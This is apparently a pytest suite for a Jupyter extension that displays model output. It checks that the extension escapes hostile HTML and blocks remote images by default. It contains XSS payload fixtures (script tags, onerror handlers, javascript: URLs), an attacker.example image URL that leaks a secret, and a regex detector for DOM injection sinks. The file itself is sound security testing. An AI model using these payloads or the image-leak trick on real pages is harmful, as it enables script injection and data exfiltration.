"""Model text in a notebook is data: it never runs as HTML, and prompts never pull in IPython's history."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils.capture import capture_output

import vllm_mlx_jupyter
from vllm_mlx.core.request import CompletionOutput, RequestOutput
from vllm_mlx_jupyter.session.generation import DONE, ERROR, Generation
from vllm_mlx_jupyter.session.prompt import interpolate
from vllm_mlx_jupyter.views.render import LiveView

HOSTILE = """# Title

Some **bold** text and a list:

- one
- two

<img src=x onerror=alert(1)>
<script>alert(2)</script>
Inline <b onmouseover=alert(3)>tag</b>, [link](javascript:alert(4)) and <javascript:alert(5)>.

```python
x = "<script>alert(6)</script>" if a < b else ""
```
"""


class ScriptedEngine:
    """An engine whose request streams ``text`` in two snapshots (the model is not the point here)."""

    def __init__(self, text: str) -> None:
        self.text = text

    def add_request(self, prompt, params, request_id):
        half = len(self.text) // 2
        return [self._output(request_id, self.text[:half], None), self._output(request_id, self.text, "stop")]

    def abort(self, request_id) -> None:
        pass

    @staticmethod
    def _output(request_id, text, finish_reason):
        completion = CompletionOutput(index=0, text=text, token_ids=[1] * len(text), finish_reason=finish_reason)
        return RequestOutput(request_id, "prompt", [1, 2, 3], [completion], finished=finish_reason is not None)


def shown(text: str, format: str = "markdown", allow_remote_images: bool = False) -> list[dict]:
    """Run a generation of ``text`` in a live view; return the data of every body display/update."""
    shell = InteractiveShell.instance()
    assert shell is not None
    gen = Generation("g", ScriptedEngine(text), None, lambda: [1, 2, 3], format=format,
                     allow_remote_images=allow_remote_images)  # fmt: skip
    with capture_output() as out:
        LiveView.show(gen)
        gen.start()
        assert gen.wait(30)
    assert gen.state == DONE and gen.text == text
    body_id = [o.transient["display_id"] for o in out.outputs if o.transient and not o.update][-1]
    return [o.data for o in out.outputs if o.transient and o.transient["display_id"] == body_id]


def assert_no_live_html(data: dict) -> None:
    """No mimetype a frontend renders as HTML carries a tag from the model's text."""
    assert "text/markdown" not in data  # JupyterLab would render raw HTML in it
    page = data.get("text/html", "")
    for tag in ("<img", "<script", "<b ", "<javascript", "javascript:alert(4)\""):
        assert tag not in page, tag


def test_markdown_output_escapes_raw_html_and_keeps_markdown():
    bodies = shown(HOSTILE)
    assert len(bodies) >= 2  # the first (empty) display, then the streamed updates
    for data in bodies:
        assert_no_live_html(data)
    final = bodies[-1]
    assert final["text/plain"] == HOSTILE
    page = final["text/html"]
    assert "&lt;img src=x onerror=alert(1)&gt;" in page and "&lt;script&gt;alert(2)&lt;/script&gt;" in page
    assert "&lt;b onmouseover=alert(3)&gt;tag&lt;/b&gt;" in page
    assert "<a " not in page  # javascript: links stay text
    assert "<h1>Title</h1>" in page and "<strong>bold</strong>" in page and "<li>two</li>" in page
    assert '<pre><code class="language-python">x = &quot;&lt;script&gt;alert(6)&lt;/script&gt;&quot; if a &lt; b' in page


def test_code_and_text_formats_show_html_as_text():
    code = shown("<img src=x onerror=alert(1)>\n```\nx < y\n", format="code")[-1]
    assert_no_live_html(code)
    assert code["text/html"].startswith('<div class="vllm-mlx-text"><pre><code>&lt;img src=x')
    assert "```\nx &lt; y" in code["text/html"]  # a fence in the text does not end the block
    text = shown("<script>alert(1)</script>", format="text")[-1]
    assert text == {"text/plain": "<script>alert(1)</script>"}


def test_safe_links_and_tables_still_render():
    page = shown("| a | b |\n|---|---|\n| 1 | [docs](https://example.org) |")[-1]["text/html"]
    assert "<table>" in page and '<a href="https://example.org">docs</a>' in page


HISTORY_NAMES = ["In", "Out", "_", "__", "___", "_i", "_ii", "_iii", "_oh", "_ih", "_dh", "exit", "quit",
                 "get_ipython", "_private"]  # fmt: skip


def test_interpolation_leaves_ipython_history_variables_alone():
    shell = InteractiveShell.instance()
    first = shell.execution_count
    with capture_output():
        for cell in ("'secret one'", "'secret two'", "topic = 'the sea'", "_private = 'hidden'"):
            shell.run_cell(cell, store_history=True)
    names = [*HISTORY_NAMES, f"_i{first}", f"_{first}", f"_i{first + 1}", f"_{first + 1}"]
    ns = shell.user_ns
    assert all(name in ns for name in names)  # they all exist, with values
    assert ns[f"_{first}"] == "secret one" and ns["_"] == "secret two"
    prompt = " ".join(f"{{{name}}}" for name in names)
    assert interpolate(prompt + " {topic}", ns) == prompt + " the sea"


# -- images in model Markdown -----------------------------------------------------------------

LEAK = "https://attacker.example/leak?d=SECRET"
PIXEL = "data:image/png;base64,iVBORw0KGgo="


def test_remote_images_show_as_links_and_data_images_stay():
    text = f"![chart]({LEAK}) ![]( //attacker.example/x.png ) ![ref][r] ![pixel]({PIXEL})\n\n[r]: {LEAK}&r=1\n"
    page = shown(text)[-1]["text/html"]
    tags = parse(page).tags
    images = [attrs for tag, attrs in tags if tag == "img"]
    assert images == [{"src": PIXEL, "alt": "pixel"}]  # fetches nothing
    links = [attrs["href"] for tag, attrs in tags if tag == "a"]
    assert links == [LEAK, "//attacker.example/x.png", LEAK + "&r=1"]
    assert "image: chart" in parse(page).text and "image: //attacker.example/x.png" in parse(page).text


def test_remote_images_load_when_allowed():
    page = shown(f'![chart]({LEAK} "t") <img src=x onerror=alert(1)>', allow_remote_images=True)[-1]["text/html"]
    tags = parse(page).tags
    assert [attrs["src"] for tag, attrs in tags if tag == "img"] == [LEAK]
    assert not any(name.startswith("on") for _tag, attrs in tags for name in attrs)  # raw HTML still text
    assert "<img src=x onerror" not in page


# -- every view against hostile data ------------------------------------------------------------

ALLOWED_TAGS = {"div", "span", "p", "a", "img", "table", "thead", "tbody", "tr", "th", "td", "details", "summary",
                "style", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "ul", "ol", "li", "pre", "code",
                "blockquote", "hr", "br", "s", "del"}  # fmt: skip
ALLOWED_ATTRS = {"class", "style", "title", "data-state", "href", "src", "alt"}


@dataclass
class Parsed:
    """An HTML page as its elements (tag, attributes) and its text."""

    tags: list[tuple[str, dict]] = field(default_factory=list)
    text: str = ""
    styles: str = ""


def parse(page: str) -> Parsed:
    out = Parsed()

    class Collector(HTMLParser):
        in_style = False

        def handle_starttag(self, tag, attrs):
            out.tags.append((tag, {name: value or "" for name, value in attrs}))
            self.in_style = tag == "style"

        def handle_endtag(self, tag):
            self.in_style = False

        def handle_data(self, data):
            if self.in_style:
                out.styles += data
            else:
                out.text += data

    collector = Collector(convert_charrefs=True)
    collector.feed(page)
    collector.close()
    return out


def assert_inert(page: str, images: bool = False) -> Parsed:
    """No element or attribute of ``page`` can run or fetch anything: only the tags and
    attributes the views build, no event handlers, no script URLs, no remote images, no CSS
    that loads."""
    parsed = parse(page)
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS and (images or tag != "img"), f"<{tag}> in {page[:300]}"
        assert set(attrs) <= ALLOWED_ATTRS, f"<{tag} {attrs}>"
        for name in ("href", "src"):
            url = attrs.get(name, "").strip().lower()
            assert not url.startswith(("javascript:", "vbscript:", "data:text")), attrs
        assert "url(" not in attrs.get("style", "") and "expression" not in attrs.get("style", ""), attrs
        if tag == "img":
            assert attrs["src"].startswith("data:image/"), attrs
    assert "url(" not in parsed.styles and "@import" not in parsed.styles
    return parsed


SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(2)>'
JS_URL = "javascript:alert(3)"
HOSTILE_STRINGS = [SCRIPT, IMG, JS_URL, "' onmouseover='alert(4)"]
MARKDOWN = f"""Answer with ![leak]({LEAK}) and <img src=x onerror=alert(5)>, {SCRIPT},
[click]({JS_URL}) and a table:

| a | b |
|---|---|
| {IMG} | ![x]({LEAK}&t=1) |
"""


def _hostile(index: int):
    return HOSTILE_STRINGS[index % len(HOSTILE_STRINGS)]


def hostile_stats() -> dict:
    """Every stat a view reads, as a hostile string."""
    keys = ("num_blocks", "num_used_blocks", "num_cached_free_blocks", "num_free_blocks", "usage", "evictions",
            "running", "waiting", "preemptions", "steps")  # fmt: skip
    stats = {key: _hostile(i) for i, key in enumerate(keys)}
    stats["prefix_cache"] = {key: _hostile(i) for i, key in enumerate(("hit_rate", "queries", "hits", "tokens_saved",
                                                                       "evictions"))}  # fmt: skip
    return stats


def hostile_block_view() -> dict:
    """``/v1/cache/blocks`` from a hostile server: strings for numbers, markup for names, ids
    outside the grid."""
    return {
        "block_size": SCRIPT,
        "block_states": "nfcuuu<",
        "free_queue": [2, -1, SCRIPT, 10**12],
        "requests": {
            SCRIPT: {"status": IMG, "num_prompt_tokens": SCRIPT, "num_cached_tokens": IMG,
                     "num_output_tokens": JS_URL, "block_ids": [3, 4, -2, IMG, 99]},
            IMG: {"status": 7, "num_prompt_tokens": [1], "block_ids": SCRIPT},
        },  # fmt: skip
        "blocks": {"3": {"ref_cnt": SCRIPT, "num_tokens": 10**9}, "4": {"ref_cnt": -5, "num_tokens": IMG}},
        "tables_disclosed": True,
        "stats": hostile_stats(),
        "kv_groups": [{"kind": SCRIPT, "window": IMG, "layers": [0, 1, SCRIPT], "bytes_per_token": JS_URL,
                       "dtype": IMG, "num_blocks": SCRIPT}, SCRIPT],  # fmt: skip
        "block_groups": [{"window": SCRIPT, "num_used_blocks": IMG}, {"window": 4, "num_used_blocks": SCRIPT}],
    }


def sse(chunks: list[dict]):
    for chunk in chunks:
        yield f"data: {json.dumps(chunk)}\n\n"
    yield "data: [DONE]\n\n"


def hostile_stream(chat: bool) -> list[dict]:
    """A streamed answer whose every field is hostile: markup and remote images in the text and
    the reasoning, a tool call named with markup, token texts with markup and logprobs that are
    strings, a hostile finish reason and usage counts that are strings."""
    rid = f"chatcmpl-{SCRIPT}"
    logprobs = {"content": [{"token": SCRIPT, "logprob": IMG,
                             "top_logprobs": [{"token": IMG, "logprob": JS_URL}, {"token": 5, "logprob": -0.1}]}]}
    if not chat:
        logprobs = {"tokens": [SCRIPT], "token_logprobs": [IMG], "top_logprobs": [{IMG: JS_URL}]}
    first = {"delta": {"role": "assistant", "reasoning_content": MARKDOWN}} if chat else {"text": ""}
    text = {"delta": {"content": MARKDOWN}} if chat else {"text": MARKDOWN}
    call = {"delta": {"tool_calls": [{"index": 0, "id": SCRIPT, "function": {"name": IMG, "arguments": SCRIPT}}]}}
    return [
        {"id": rid, "choices": [{"index": 0, **first}]},
        {"id": rid, "choices": [{"index": 0, **text, "logprobs": logprobs}]},
        *([{"id": rid, "choices": [{"index": 0, **call}]}] if chat else []),
        {"id": rid, "choices": [{"index": 0, "delta": {}, "text": "", "finish_reason": SCRIPT}]},
        {"id": rid, "choices": [], "usage": {"prompt_tokens": SCRIPT, "completion_tokens": IMG,
                                             "prompt_tokens_details": {"cached_tokens": JS_URL}}},  # fmt: skip
    ]


VIEW: dict = {}  # fields a test sets in the hostile server's /v1/cache/blocks answer
STREAM: list = []  # chunks a test has the hostile server stream instead of hostile_stream(True)


def hostile_app():
    """A server that answers what a connected notebook reads, every answer hostile."""
    from fastapi import FastAPI
    from fastapi.responses import StreamingResponse

    app = FastAPI()
    app.get("/v1/models")(lambda: {"data": [{"id": f"model {SCRIPT}"}]})
    app.get("/v1/cache/blocks")(lambda: {**hostile_block_view(), **VIEW})
    app.get("/v1/cache/stats")(lambda: {"stats": hostile_stats(), "block_size": IMG})
    app.post("/v1/chat/completions")(lambda: StreamingResponse(sse(STREAM or hostile_stream(True)),
                                                               media_type="text/event-stream"))  # fmt: skip
    app.post("/v1/completions")(lambda: StreamingResponse(sse(hostile_stream(False)), media_type="text/event-stream"))
    return app


@pytest.fixture(scope="module")
def hostile_shell():
    """An IPython shell connected to the hostile server."""
    pytest.importorskip("fastapi")
    from live_server import LiveServer

    server = LiveServer(hostile_app())
    shell = InteractiveShell.instance()
    shell.run_line_magic("load_ext", "vllm_mlx_jupyter")
    shell.run_line_magic("config", "GenerateMagics.auto_load = False")
    try:
        with capture_output() as out:
            shell.run_line_magic("vllm_mlx", f"connect {server.url}")
        yield shell, out.outputs
    finally:
        shell.run_line_magic("unload_ext", "vllm_mlx_jupyter")
        shell.run_line_magic("config", "GenerateMagics.auto_load = True")  # the shell is shared with later tests
        server.stop()


def html_pages(outputs) -> list[str]:
    pages = [o.data["text/html"] for o in outputs if "text/html" in o.data]
    assert all("text/markdown" not in o.data for o in outputs)
    return pages


def last_body(pages: list[str]) -> str:
    """The last page a cell's body (not its status line) sent: the final render sends the
    status alone when the body was already complete, so ``pages[-1]`` may be the status."""
    return [page for page in pages if not page.startswith('<div class="vllm-mlx-status"')][-1]


def cell_pages(shell, line: str, cell: str = "Hello") -> tuple[object, list[str]]:
    """Run ``%%generate --wait`` with ``line``; its handle and every HTML its outputs sent."""
    with capture_output() as out:
        gen = shell.run_cell_magic("generate", f"--wait {line}", cell)
        assert gen.wait(60)
    return gen, html_pages(out.outputs)


def test_connect_note_and_status_show_a_hostile_server_as_text(hostile_shell):
    shell, connect_outputs = hostile_shell
    with capture_output() as out:
        shell.run_line_magic("vllm_mlx", "status")
    pages = html_pages(connect_outputs) + html_pages(out.outputs)
    assert len(pages) == 2
    texts = [assert_inert(page).text for page in pages]
    assert all(f"model {SCRIPT}" in text for text in texts)  # the server's model name, as text
    assert "0% (0 of 0 blocks in use" in texts[1]  # its counts that were not numbers


def test_generation_views_show_a_hostile_stream_as_text(hostile_shell):
    """Streamed Markdown (with reasoning and a tool call), the token view of chat and completions,
    and an --over run, from a stream whose every field is hostile (``hostile_stream``)."""
    shell, _ = hostile_shell
    gen, markdown = cell_pages(shell, "-n hostile-md")
    assert gen.text == MARKDOWN and gen.tool_calls and gen.reasoning == MARKDOWN
    _, tokens = cell_pages(shell, "-n hostile-tokens --logprobs 2")
    _, raw = cell_pages(shell, "-n hostile-raw --raw --logprobs 2")
    shell.user_ns["hostile_rows"] = ["a", "b"]
    _, over = cell_pages(shell, "-n hostile-over --over hostile_rows", "{item}")
    everything = "\n".join(assert_inert(page).text for page in markdown + tokens + raw + over)
    for hostile in (SCRIPT, IMG, "onerror=alert(5)", JS_URL, "image: leak"):
        assert hostile in everything, hostile  # the data reached the views, as text
    final = parse(last_body(markdown))
    assert SCRIPT in final.text and f"done ({SCRIPT})" in everything
    assert [a["href"] for tag, a in final.tags if tag == "a"] == [LEAK, LEAK + "&t=1"] * 2  # reasoning, text
    assert any(SCRIPT in parse(page).text for page in tokens) and any(SCRIPT in parse(page).text for page in raw)


def test_remote_images_load_with_the_flag_or_the_config(hostile_shell):
    shell, _ = hostile_shell

    def images(line: str) -> list[str]:
        page = last_body(cell_pages(shell, line)[1])
        tags = parse(page).tags
        assert not any(name.startswith("on") for _tag, attrs in tags for name in attrs)  # raw HTML stays text
        return [attrs["src"] for tag, attrs in tags if tag == "img"]

    assert images("-n images-default") == []
    assert images("-n images-flag --allow-remote-images") == [LEAK, LEAK + "&t=1"] * 2
    shell.run_line_magic("config", "GenerateMagics.allow_remote_images = True")
    try:
        assert images("-n images-config") == [LEAK, LEAK + "&t=1"] * 2
    finally:
        shell.run_line_magic("config", "GenerateMagics.allow_remote_images = False")


@pytest.mark.parametrize("error", [SCRIPT, {"message": SCRIPT}, {"code": IMG}])
def test_a_servers_error_shows_as_text(hostile_shell, error):
    """An error chunk (OpenAI's shape or not) ends the generation with the server's message,
    shown as text in its status line."""
    shell, _ = hostile_shell
    STREAM[:] = [{"error": error}]
    try:
        gen, pages = cell_pages(shell, "")
    finally:
        STREAM.clear()
    assert gen.state == ERROR and str(gen.error)
    status = assert_inert([page for page in pages if "vllm-mlx-status" in page][-1]).text
    assert (SCRIPT if error != {"code": IMG} else IMG) in status and "malformed" not in status


def test_a_chunk_of_the_wrong_shape_is_the_generations_error(hostile_shell):
    shell, _ = hostile_shell
    STREAM[:] = [{"id": "x", "choices": [{"index": 0, "delta": {"content": "ok "}}]},
                 {"id": "x", "choices": [{"index": 0, "delta": {"content": {"html": SCRIPT}}}]}]  # fmt: skip
    try:
        gen, pages = cell_pages(shell, "")
    finally:
        STREAM.clear()
    assert gen.state == ERROR and "malformed chunk" in str(gen.error) and gen.text == "ok "
    assert all(assert_inert(page) for page in pages)


def inspector_page(shell) -> tuple[str, dict]:
    """The session inspector's saved picture (its ``text/html`` fallback) and widget state."""
    from vllm_mlx_jupyter import _MAGICS

    inspector = _MAGICS[id(shell)].session.inspector()
    assert inspector.refresh(), inspector.engine_state
    bundle = inspector._repr_mimebundle_()
    return (bundle[0] if isinstance(bundle, tuple) else bundle)["text/html"], inspector.get_state()


def test_inspector_picture_escapes_a_servers_token_counts(hostile_shell):
    """The finding: a server's three token counts went into the saved picture unescaped."""
    shell, _ = hostile_shell
    counts = {"num_prompt_tokens": SCRIPT, "num_cached_tokens": IMG, "num_output_tokens": JS_URL}
    stats = {"num_blocks": 4, "num_used_blocks": 1, "usage": 0.25, "prefix_cache": {"hit_rate": 0.5}}
    VIEW.update(block_size=4, block_states="nffu", free_queue=[1, 2], blocks={"3": {"ref_cnt": 1, "num_tokens": 2}},
                requests={"chatcmpl-x": {"status": "RUNNING", "block_ids": [3], **counts}}, stats=stats,
                kv_groups=[], block_groups=[])  # fmt: skip
    try:
        page, state = inspector_page(shell)
    finally:
        VIEW.clear()
    assert_inert(page)
    assert SCRIPT not in page and "<td>0</td><td>0</td><td>0</td><td>1</td>" in page
    row = next(r for r in state["requests"] if r["id"] == "chatcmpl-x")
    assert (row["prompt_tokens"], row["cached_tokens"], row["output_tokens"], row["num_blocks"]) == (0, 0, 0, 1)


def test_inspector_takes_any_hostile_block_view(hostile_shell):
    """Every field of ``/v1/cache/blocks`` hostile: the widget gets numbers and text, the
    picture is inert, names show as text."""
    shell, _ = hostile_shell
    page, state = inspector_page(shell)
    text = assert_inert(page).text
    assert SCRIPT in text and IMG in text  # request names, layer-group labels
    rows = [r for r in state["requests"] if r["name"] in (SCRIPT, IMG)]
    assert len(rows) == 2  # the widget gets the server's requests, with counts as numbers
    assert all(isinstance(r[k], int) for r in rows for k in ("prompt_tokens", "cached_tokens", "output_tokens"))
    assert all(isinstance(v, int | float) for v in state["stats"].values())
    assert state["num_blocks"] == len(hostile_block_view()["block_states"])


def test_static_pictures_coerce_numbers_and_escape_text():
    """The saved pictures of the inspector and the timeline, from states whose every field is
    hostile (as a crafted widget state or a corrupted notebook could hold)."""
    from vllm_mlx_jupyter.views import inspector, timeline

    request = {"id": SCRIPT, "name": SCRIPT, "status": IMG, "prompt_tokens": SCRIPT, "cached_tokens": IMG,
               "output_tokens": JS_URL, "num_blocks": "' onmouseover='x", "offset": 0, "color": SCRIPT}  # fmt: skip
    state = {"block_state": bytes([0, 1, 2, 3]), "block_owner": bytes(16), "block_ref": bytes([0, 0, 2, 1]),
             "requests": [request], "stats": hostile_stats(), "kv_groups": [{"label": SCRIPT}]}  # fmt: skip
    page = inspector.static_html(state)
    text = assert_inert(page).text
    assert text.count(SCRIPT) == 2 and IMG in text
    assert "<td>0</td>" in page  # the counts that were not numbers
    step = {"step": SCRIPT, "ms": IMG, "budget": JS_URL, "used": SCRIPT, "calls": SCRIPT, "preempted": [],
            "reqs": [{"id": SCRIPT, "color": IMG, "prefill": SCRIPT, "decode": IMG, "start": 0, "prompt": 1}]}  # fmt: skip
    page = timeline.static_html([step, {"step": 2, "ms": 1.0, "budget": 8, "used": 8, "preempted": [SCRIPT],
                                        "reqs": [{"color": 1, "prefill": 8, "decode": 0}]}])  # fmt: skip
    assert_inert(page)
    assert 'title="step 0: 0/0 tokens, 0.0 ms, 1 requests"' in page


def test_widget_scripts_never_write_html():
    """The widgets' JavaScript puts data into the page with textContent and property setters
    only: no HTML parsing of strings, no code from strings."""
    static = Path(vllm_mlx_jupyter.__file__).parent / "static"
    scripts = sorted(static.glob("*.js"))
    assert scripts
    sinks = re.compile(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|srcdoc"
                       r"|setAttribute\(\s*[\"']on|\.on[a-z]+\s*=(?!=)|DOMParser|createContextualFragment")  # fmt: skip
    for script in scripts:
        for number, line in enumerate(script.read_text().splitlines(), 1):
            assert not sinks.search(line), f"{script.name}:{number}: {line.strip()}"


# -- fuzzing the connected inspector --------------------------------------------------------------

json_leaf = st.one_of(st.none(), st.booleans(), st.integers(-(2**70), 2**70), st.floats(),
                      st.sampled_from(HOSTILE_STRINGS), st.text(max_size=12))  # fmt: skip
json_value = st.recursive(json_leaf, lambda children: st.one_of(
    st.lists(children, max_size=4), st.dictionaries(st.text(max_size=8), children, max_size=4)), max_leaves=10)  # fmt: skip


def _maybe(valid):
    return st.one_of(valid, json_value)


block_views = st.fixed_dictionaries({
    "block_size": _maybe(st.integers(1, 64)),
    "block_states": st.text("nfcu<x", max_size=24),
    "free_queue": _maybe(st.lists(_maybe(st.integers(-3, 30)), max_size=6)),
    "disk_blocks": _maybe(st.lists(_maybe(st.integers(-3, 30)), max_size=6)),
    "requests": _maybe(st.dictionaries(st.sampled_from(HOSTILE_STRINGS + ["r1"]), st.fixed_dictionaries({
        "status": _maybe(st.sampled_from(["RUNNING", "WAITING"])),
        "num_prompt_tokens": _maybe(st.integers(0, 99)), "num_cached_tokens": _maybe(st.integers(0, 99)),
        "num_output_tokens": _maybe(st.integers(0, 99)),
        "block_ids": _maybe(st.lists(_maybe(st.integers(-3, 30)), max_size=6))}), max_size=3)),
    "blocks": _maybe(st.dictionaries(st.sampled_from([str(i) for i in range(-1, 30)]), st.fixed_dictionaries({
        "ref_cnt": _maybe(st.integers(-2, 300)), "num_tokens": _maybe(st.integers(-2, 70000))}), max_size=4)),
    "stats": _maybe(st.dictionaries(st.sampled_from(["usage", "num_blocks", "running", "prefix_cache"]), json_value)),
    "kv_groups": _maybe(st.lists(_maybe(st.dictionaries(
        st.sampled_from(["kind", "window", "layers", "dtype", "bytes_per_token", "num_blocks"]), json_value)),
        max_size=2)),
    "block_groups": _maybe(st.lists(_maybe(st.dictionaries(st.sampled_from(["window", "num_used_blocks"]), json_value)),
                                    max_size=3)),
})  # fmt: skip


@settings(max_examples=150, deadline=None, derandomize=True)
@given(view=block_views)
def test_fuzz_server_views_reach_the_inspector_as_counts_and_text(view):
    """Any ``/v1/cache/blocks`` answer a server may send: the inspector encodes it (its arrays
    build), and its saved picture and summary carry no markup from it."""
    from vllm_mlx_jupyter.views.inspector import decode_state, encode_snapshot, group_label, static_html
    from vllm_mlx_jupyter.views.server_view import snapshot_from_view

    snapshot = snapshot_from_view(view, {})
    state = encode_snapshot(snapshot, [{"id": "mine", "name": SCRIPT, "status": "done"}])
    decoded = decode_state(state)
    assert len(decoded["block_state"]) == len(view["block_states"])
    assert all(isinstance(r[k], int) for r in state["requests"] for k in ("prompt_tokens", "output_tokens"))
    assert all(isinstance(g["label"], str) for g in state["kv_groups"])
    assert_inert(static_html(state))
    assert all(group_label(g) for g in snapshot["kv_groups"])
